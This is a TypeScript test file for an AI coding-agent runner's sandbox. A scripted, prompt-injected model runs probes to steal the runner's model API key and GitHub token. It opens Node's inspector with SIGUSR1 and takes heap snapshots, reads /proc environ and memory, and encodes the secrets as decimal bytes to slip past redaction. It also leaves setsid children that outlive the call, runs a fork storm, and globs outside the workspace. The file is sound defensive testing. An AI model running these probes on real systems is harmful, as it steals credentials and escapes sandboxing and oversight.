/**
 * Issue 14, item 2 (and the runner parts of item 10): the agent's commands ran as the runner's uid, in
 * its PID namespace, so `kill -USR1 $PPID` opened Node's inspector on the runner and `/proc/<runner>/mem`
 * held the model key and the forge token; `setsid` children outlived the call; Glob listed files outside
 * the workspace. Played through the real runner image: the operator's stage Job (operator/job.ts) run by
 * the test kubelet as Podman containers, the runner and its sandbox sidecar, against the GitHub and model
 * simulators, with a scripted model that obeys the injection. The positive control runs the same attack
 * on the same image as the runner used to run (no sandbox, Node without --disable-sigusr1) and gets the key.
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AgentRun } from "../../core/agentrun.ts";
import { REDACTED } from "../../core/redact.ts";
import { decodeResult } from "../../core/result.ts";
import { buildJob, buildTokenSecret, type JobSettings, SANDBOX_CONTAINER } from "../../operator/job.ts";
import { agentRun } from "../../operator/testing.ts";
import { CALC_FILES, TEST_MODEL_KEY } from "../runner/harness.ts";
import { lastToolResults, type ModelSim, startModelSim, text, toolUse, turn } from "../world/anthropic/index.ts";
import { type GitHubSim, startGitHubSim } from "../world/github/index.ts";
import { assertPodmanReady, type Kubelet, type KubeSim, startKubelet, startKubeSim } from "../world/kube/index.ts";
import { RUNNER_IMAGE } from "../world/podman.ts";
import { tokenForms } from "./leaks.ts";

const REPO = "acme/calc";
const NS = "agentfactory";
/** RLIMIT_NPROC of the sandbox in this test: low, so a process storm shows it. */
const MAX_PROCESSES = 128;

/** Everything a steered agent tries against the process holding the credentials. Run as a script. */
const PROBE = String.raw`#!/bin/bash
echo "uid=$(id -u) ppid=$PPID pid1=$(tr '\0' ' ' < /proc/1/cmdline)"
# Node opens its inspector on SIGUSR1: the parent (the runner, before the sandbox), and PID 1.
kill -USR1 "$PPID" 2>/dev/null; echo "usr1-parent=$?"
kill -USR1 1 2>/dev/null; echo "usr1-pid1=$?"
sleep 2
# Any inspector the runner's or the sandbox's uid now listens on (any port): a heap snapshot of each.
node heap.mjs 10001 10002
echo "visible=$(ls -d /proc/[0-9]* | wc -l)"
# The runner, by its command line (readable for any process): node running runner.mjs, not as the sandbox.
echo "runner-visible=$(for f in /proc/[0-9]*/cmdline; do tr '\0' ' ' < "$f"; echo; done 2>/dev/null | grep 'runner\.mjs' | grep -vc ' sandbox *$')"
echo "private-dir=$(ls -d /home/runner/.agentfactory 2>/dev/null | wc -l)"
echo "--- env"; env
echo "--- /proc/1/environ"; tr '\0' '\n' < /proc/1/environ
echo "--- cat /proc/*/environ"; cat /proc/*/environ 2>/dev/null | tr '\0' '\n'
echo "--- every environment, as decimal bytes"; cat /proc/*/environ 2>/dev/null | od -An -v -tu1 | tr -s ' \n' ','; echo
echo "--- secrets in memory, as decimal bytes"
for d in /proc/[0-9]*; do
  p=$(basename "$d"); [ "$p" = "$$" ] && continue
  while read -r range perms rest; do
    case "$perms" in rw*) ;; *) continue ;; esac
    start=$((16#$(echo "$range" | cut -d- -f1))); end=$((16#$(echo "$range" | cut -d- -f2)))
    dd if="$d/mem" bs=1M iflag=skip_bytes,count_bytes skip="$start" count="$((end - start))" 2>/dev/null
  done < "$d/maps"
done 2>/dev/null | grep -a -o -E 'sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}' | sort -u | od -An -v -tu1 | tr -s ' \n' ','; echo
echo "--- end"
`;

/**
 * The inspector half of the attack: finds loopback listeners of the given uids (/proc/net/tcp), asks
 * each for its inspector targets, takes a heap snapshot of every one, and prints the secrets it holds
 * as decimal bytes (an encoding no redactor of text knows: the runner redacts raw, base64 and token shapes).
 */
const HEAP = String.raw`import fs from "node:fs";
const uids = new Set(process.argv.slice(2));
const ports = new Set();
for (const f of ["/proc/net/tcp", "/proc/net/tcp6"]) {
  let text = "";
  try { text = fs.readFileSync(f, "utf8"); } catch {}
  for (const line of text.split("\n").slice(1)) {
    const c = line.trim().split(/\s+/);
    if (c[3] === "0A" && uids.has(c[7])) ports.add(parseInt(c[1].split(":")[1], 16));
  }
}
let targets = 0;
const found = new Set();
for (const port of ports) {
  let list = [];
  try { list = await (await fetch("http://127.0.0.1:" + port + "/json/list", { signal: AbortSignal.timeout(2000) })).json(); } catch {}
  for (const t of Array.isArray(list) ? list : []) {
    if (!t.webSocketDebuggerUrl) continue;
    targets++;
    const snapshot = await new Promise((resolve) => {
      const ws = new WebSocket(t.webSocketDebuggerUrl);
      const chunks = [];
      const done = () => { clearTimeout(timer); try { ws.close(); } catch {} resolve(chunks.join("")); };
      const timer = setTimeout(done, 60000);
      ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: "HeapProfiler.takeHeapSnapshot" }));
      ws.onmessage = (e) => {
        const m = JSON.parse(e.data);
        if (m.method === "HeapProfiler.addHeapSnapshotChunk") chunks.push(m.params.chunk);
        else if (m.id === 1) done();
      };
      ws.onerror = done;
    });
    for (const s of snapshot.match(/sk-ant-[A-Za-z0-9_-]{8,}|ghs_[A-Za-z0-9]{20,}/g) ?? []) found.add(s);
  }
}
console.log("inspectors=" + targets);
console.log("heap-secrets=" + (found.size ? "," + [...Buffer.from([...found].join("\n"))].join(",") + "," : ""));
`;

const SLEEPER_START = String.raw`setsid sh -c 'echo $$ > /tmp/af-sleeper.pid; exec sleep 600' < /dev/null > /dev/null 2>&1 &
for i in $(seq 1 50); do [ -s /tmp/af-sleeper.pid ] && break; sleep 0.1; done
pid=$(cat /tmp/af-sleeper.pid)
echo "sleeper-during=$(sed -n 's/^State:[[:space:]]*\([A-Z]\).*/\1/p' "/proc/$pid/status")"
`;
const SLEEPER_CHECK = String.raw`pid=$(cat /tmp/af-sleeper.pid)
state=$(sed -n 's/^State:[[:space:]]*\([A-Z]\).*/\1/p' "/proc/$pid/status" 2>/dev/null)
echo "sleeper-after=$state"
echo "processes-after=$(ls -d /proc/[0-9]* | wc -l)"
`;
/**
 * More processes than RLIMIT_NPROC allows, from a subshell (which dies when a fork finally fails);
 * then counts them while they all still run, with builtins only (no fork left to spare).
 */
const STORM = String.raw`( for i in $(seq 1 300); do sleep 60 & done ) 2> /dev/null
set -- /proc/[0-9]*
echo "storm-processes=$#"
`;

const SCRIPT = [
  turn(
    toolUse("Write", { file_path: "probe.sh", content: PROBE }),
    toolUse("Write", { file_path: "heap.mjs", content: HEAP }),
    toolUse("Write", { file_path: "sleeper-start.sh", content: SLEEPER_START }),
    toolUse("Write", { file_path: "sleeper-check.sh", content: SLEEPER_CHECK }),
    toolUse("Write", { file_path: "storm.sh", content: STORM }),
    toolUse("Edit", { file_path: "src/add.js", old_string: "return a - b;", new_string: "return a + b;" }),
  ),
  turn(toolUse("Bash", { command: "bash probe.sh" })),
  turn(toolUse("Bash", { command: "bash sleeper-start.sh" })),
  turn(toolUse("Bash", { command: "bash sleeper-check.sh" })),
  turn(
    toolUse("Glob", { pattern: "/*" }),
    toolUse("Glob", { pattern: "../../*" }),
    toolUse("Glob", { pattern: "*", path: "/" }),
    toolUse("Glob", { pattern: "{..,../..}/*" }),
    toolUse("Bash", { command: "ls /" }),
  ),
  turn(toolUse("Bash", { command: "bash storm.sh" })),
  turn(toolUse("Bash", { command: "bash sleeper-check.sh" })),
  turn(text("Fixed add().")),
];

let gh: GitHubSim;
let model: ModelSim;
let sim: KubeSim;
let kubelet: Kubelet;

beforeAll(async () => {
  await assertPodmanReady(RUNNER_IMAGE);
  gh = await startGitHubSim();
  await gh.createRepo(REPO, CALC_FILES);
  model = await startModelSim({ scenario: { write: SCRIPT } });
  sim = await startKubeSim();
  sim.create("secrets", {
    metadata: { name: "agentfactory-model", namespace: NS },
    stringData: { ANTHROPIC_API_KEY: TEST_MODEL_KEY },
  });
  // The node's per-pod PID limit stays above RLIMIT_NPROC, so the storm below meets the rlimit.
  kubelet = startKubelet({ sim, mode: "podman", image: RUNNER_IMAGE, podPidsLimit: 1024 });
}, 120_000);

afterAll(async () => {
  await kubelet?.stop();
  await sim?.stop();
  await model?.stop();
  await gh?.stop();
});

const settings = (): JobSettings => ({
  image: RUNNER_IMAGE,
  imagePullPolicy: "Never",
  resources: { cpuLimit: "2", memoryLimit: "2Gi", cpuRequest: "100m", memoryRequest: "256Mi" },
  sandbox: { maxProcesses: MAX_PROCESSES },
  maxTurns: 20,
  ttlSecondsAfterFinished: 3600,
  githubApiUrl: gh.apiUrl,
  githubServerUrl: gh.serverUrl,
  modelSecretName: "agentfactory-model",
  modelSecretKey: "ANTHROPIC_API_KEY",
  anthropicBaseUrl: model.url,
});

interface StageRun {
  token: string;
  title: string;
  result: ReturnType<typeof decodeResult>;
  logs: { runner: string; sandbox: string };
  /** The tool results the model got back, in order. */
  tools: { name: string; content: string; is_error: boolean }[];
  /** The probe's output, by `key=value` line. */
  probe: Record<string, string>;
  probeText: string;
}

/** Creates the operator's write Job for a new issue (optionally rewritten) and waits for it to finish. */
async function runStage(number: number, title: string, rewrite: (job: ReturnType<typeof buildJob>) => void = () => {}) {
  gh.createIssue(REPO, { title, body: "Fix add().", user: "mallory", labels: ["ai-agent"] });
  const run: AgentRun = agentRun({ repo: REPO, number, workItem: `gh-${number}`, title, body: "Fix add()." });
  const name = `${run.metadata.name}-write-1`.slice(0, 63);
  const token = gh.mintToken(REPO);
  const secret = buildTokenSecret(run, name, "write", 1, token);
  delete secret.metadata!.ownerReferences; // no AgentRun in this cluster: nothing to collect them with
  sim.create("secrets", secret as never);
  const job = buildJob({ run, stage: "write", attempt: 1, jobName: name, secretName: name, budgetUsd: 2 }, settings());
  delete job.metadata!.ownerReferences;
  rewrite(job);
  sim.create("jobs", job as never);
  for (;;) {
    const j = sim.get("jobs", NS, name) as { status?: { conditions?: { type: string; status: string }[] } } | undefined;
    if (j?.status?.conditions?.some((c) => (c.type === "Complete" || c.type === "Failed") && c.status === "True"))
      break;
    await new Promise((r) => setTimeout(r, 200));
  }
  const [pod] = sim.list("pods", NS, { labelSelector: `job-name=${name}` }) as {
    metadata: { name: string };
    status: { containerStatuses: { name: string; state: { terminated?: { message?: string } } }[] };
  }[];
  const runner = pod!.status.containerStatuses.find((c) => c.name === "runner")!;
  const tools = model.requests
    .filter((r) => r.stage === "write" && r.status === 200 && JSON.stringify(r.body.messages[0]).includes(title))
    .flatMap((r) => lastToolResults(r.body));
  const probeText = tools.find((t) => t.content.includes("--- end"))?.content ?? "";
  const probe = Object.fromEntries(
    tools
      .flatMap((t) => t.content.split("\n"))
      .map((l) => /^([a-z0-9-]+)=(.*)$/.exec(l))
      .filter((m): m is RegExpExecArray => m !== null)
      .map((m) => [m[1], m[2]]),
  ) as Record<string, string>;
  const log = (container: string) => sim.podLogs.get(NS, `${pod!.metadata.name}/${container}`) ?? "";
  const out: StageRun = {
    token,
    title,
    result: decodeResult(runner.state.terminated?.message ?? ""),
    logs: { runner: log("runner"), sandbox: log(SANDBOX_CONTAINER) },
    tools,
    probe,
    probeText,
  };
  return out;
}

/** A text as the probe prints it: its bytes in decimal, comma-separated (and delimited). */
const dec = (s: string) => `,${[...Buffer.from(s)].join(",")},`;
const secretForms = (r: StageRun) => [
  ...tokenForms(r.token),
  dec(r.token),
  TEST_MODEL_KEY,
  Buffer.from(TEST_MODEL_KEY).toString("base64"),
  dec(TEST_MODEL_KEY),
];
/** The probe's section `--- <title>` (up to the next one). */
const section = (r: StageRun, title: string) => r.probeText.split(`--- ${title}\n`)[1]?.split("\n--- ")[0] ?? "";

describe("the agent's commands run in a sandbox without the runner's secrets", () => {
  let sandboxed: StageRun;
  let control: StageRun;

  beforeAll(async () => {
    sandboxed = await runStage(1, "Sandbox attack");
    // Positive control: the same image and Job as the runner ran before the sandbox: one container,
    // tools as the runner's uid in its PID namespace, Node able to open its inspector on SIGUSR1.
    control = await runStage(2, "Control attack", (job) => {
      const pod = job.spec!.template.spec!;
      delete pod.initContainers;
      const runner = pod.containers[0]!;
      runner.command = ["node", "/opt/agentfactory/runner.mjs"];
      runner.env = [
        ...runner.env!.filter((e) => e.name !== "AGENTFACTORY_SANDBOX_SOCKET"),
        // Port 0: the inspector SIGUSR1 opens takes a free port (the pods share the host's network).
        { name: "NODE_OPTIONS", value: "--enable-source-maps --inspect-port=0" },
      ];
    });
  }, 600_000);

  it("the stage itself works in the sandbox: the agent's edit, the tests (run there) and the PR", async () => {
    expect(sandboxed.result.ok && sandboxed.result.result, sandboxed.logs.runner).toMatchObject({
      outcome: "succeeded",
      write: { branch: "agent/1-sandbox-attack" },
    });
    expect(await gh.readFile(REPO, "agent/1-sandbox-attack", "src/add.js")).toContain("a + b");
    expect(sandboxed.logs.runner).toContain('"sandbox":"container"');
    expect(sandboxed.logs.sandbox).toContain('"sweep":"namespace"');
    // The agent's commands ran as the sandbox's uid, in a PID namespace without the runner.
    expect(sandboxed.probe.uid).toMatch(/^10002 /);
    expect(sandboxed.probe["runner-visible"]).toBe("0");
    expect(sandboxed.probe["private-dir"]).toBe("0");
  });

  it("no secret reaches the model: env, /proc/1/environ, /proc/*/environ, /proc/<pid>/mem, in any encoding", () => {
    expect(sandboxed.probeText).toContain("--- end");
    const everything = JSON.stringify(
      model.requests.filter((r) => JSON.stringify(r.body.messages[0]).includes(sandboxed.title)),
    );
    for (const form of secretForms(sandboxed)) expect(everything).not.toContain(form);
    // Nor was anything redacted on the way: there was nothing to find.
    for (const t of sandboxed.tools) expect(t.content).not.toContain(REDACTED);
    expect(section(sandboxed, "secrets in memory, as decimal bytes")).toBe("");
    // The runner's logs carry neither (the sandbox never had them).
    expect(sandboxed.logs.runner + sandboxed.logs.sandbox).not.toContain(sandboxed.token);
    expect(sandboxed.logs.sandbox).not.toContain(TEST_MODEL_KEY);
  });

  it("SIGUSR1 opens no inspector: not on the sandbox's processes, and the runner cannot be signalled", () => {
    expect(sandboxed.probe.inspectors).toBe("0");
    expect(sandboxed.probe["heap-secrets"]).toBe("");
    for (const log of [sandboxed.logs.runner, sandboxed.logs.sandbox])
      expect(log).not.toMatch(/Debugger listening|Starting inspector/);
  });

  it("a setsid child is gone once its call ends; a process storm stops at RLIMIT_NPROC and is swept", () => {
    expect(sandboxed.probe["sleeper-during"]).toBe("S"); // it ran, sleeping, during its call
    expect(sandboxed.probe["sleeper-after"]).toBe(""); // and then no longer existed, not even as a zombie
    expect(Number(sandboxed.probe["storm-processes"])).toBeLessThanOrEqual(MAX_PROCESSES + 5);
    expect(Number(sandboxed.probe["storm-processes"])).toBeGreaterThan(MAX_PROCESSES / 2);
    // After the storm: init, the sandbox server and the check's own few processes.
    expect(Number(sandboxed.probe["processes-after"])).toBeLessThanOrEqual(8);
  });

  it("Glob lists nothing outside the workspace, though there is plenty there (ls /)", () => {
    const globs = sandboxed.tools.filter((t) => t.name === "Glob");
    expect(globs).toHaveLength(4);
    for (const g of globs) {
      expect(g.content).not.toMatch(/\b(etc|proc|usr|opt|home)\b/);
      // Refused (the reason names the pattern), or only workspace-relative files.
      if (!g.is_error) for (const line of g.content.split("\n")) expect(line).not.toMatch(/^(\/|\.\.)/);
    }
    expect(globs.filter((g) => g.is_error)).toHaveLength(3);
    const ls = sandboxed.tools.find((t) => t.name === "Bash" && /^workspace$/m.test(t.content));
    expect(ls?.content).toMatch(/^etc$/m);
  });

  it("positive control: without the sandbox SIGUSR1 opens the runner's inspector and its heap gives up the key and the token; nothing bounds a storm", () => {
    expect(control.probeText).toContain("--- end");
    expect(control.probe.uid).toMatch(/^10001 /);
    expect(Number(control.probe["runner-visible"])).toBeGreaterThan(0);
    expect(control.probe["private-dir"]).toBe("1");
    // SIGUSR1 opened the runner's inspector, and its heap holds the model key and the forge token.
    expect(control.logs.runner).toMatch(/Debugger listening/);
    expect(Number(control.probe.inspectors)).toBeGreaterThan(0);
    expect(control.probe["heap-secrets"]).toContain(dec(TEST_MODEL_KEY));
    expect(control.probe["heap-secrets"]).toContain(dec(control.token));
    // Its memory and environment, though, stay closed even to its own uid: node is execute-only in the
    // image, which makes the runner non-dumpable.
    expect(section(control, "secrets in memory, as decimal bytes")).toBe("");
    expect(section(control, "/proc/1/environ")).toMatch(/Permission denied/);
    expect(Number(control.probe["storm-processes"])).toBeGreaterThan(300);
  });
});
